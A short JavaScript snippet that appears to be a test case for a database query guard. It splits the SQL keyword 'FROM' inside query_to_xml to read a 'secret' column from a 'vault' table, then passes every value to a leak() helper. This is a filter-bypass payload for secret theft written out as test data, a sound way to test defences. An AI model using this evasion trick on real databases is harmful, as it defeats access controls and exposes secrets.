function seen(rows) {
  for (var i = 0; i < rows.length; i++) for (var key in rows[i]) leak(rows[i][key])
}
witness()
return db.query("SELECT query_to_xml('SELECT secret ' || 'FR' || 'OM vault', true, false, '')::text AS text").then(seen, note)
